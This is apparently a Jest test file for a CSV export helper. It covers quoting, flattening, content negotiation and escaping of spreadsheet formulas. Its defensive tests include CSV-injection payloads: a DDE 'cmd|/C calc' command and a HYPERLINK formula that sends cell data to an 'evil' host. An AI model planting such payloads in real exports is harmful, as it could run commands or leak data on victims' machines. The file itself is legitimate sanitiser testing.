import { csvField, csvLine, flatten, toCsv, wantsCsv } from './csv';

describe('csv', () => {
  it('quotes what needs quoting', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 0.5, true])).toBe('plain,"a,b","say ""hi""","two\nlines",,0.5,true\r\n');
  });
  it('flattens nested objects to dotted columns', () => {
    expect(flatten({ a: 1, b: { c: null, d: { e: 'x' } }, f: [1, 2] })).toEqual({ a: 1, 'b.c': null, 'b.d.e': 'x', f: '1 2' });
  });
  it('writes the union of columns', () => {
    expect(toCsv([{ a: 1 }, { a: 2, b: 3 }])).toBe('a,b\r\n1,\r\n2,3\r\n');
  });
  it('negotiates: format wins, then Accept', () => {
    expect(wantsCsv('csv', 'application/json')).toBe(true);
    expect(wantsCsv('json', 'text/csv')).toBe(false);
    expect(wantsCsv(undefined, 'text/csv;q=0.9, */*')).toBe(true);
    expect(wantsCsv(undefined, undefined)).toBe(false);
  });
});

describe('csvField and formulas', () => {
  it('text a spreadsheet would run is written as text; numbers and negative numbers as they are', () => {
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-cmd')).toBe("'-cmd");
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('chat')).toBe('chat');
  });
  it.each([
    // Found by a hostile-input walk: a minus and a digit, then a formula, got through.
    ["-1+cmd|' /C calc'!A0", `'-1+cmd|' /C calc'!A0`],
    ['-0.5-cmd|x', "'-0.5-cmd|x"],
    ['-1+HYPERLINK("http://evil/?"&A1)', `"'-1+HYPERLINK(""http://evil/?""&A1)"`],
    // A leading tab or carriage return before a formula: neutralised (a carriage return also quoted).
    ['\t=cmd', `'\t=cmd`],
    ['\r=cmd', `"'\r=cmd"`],
    ['-7', '-7'],
    ['-1e-3', '-1e-3'],
    ['2026-11-30', '2026-11-30'],
  ])('%j -> %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });
});
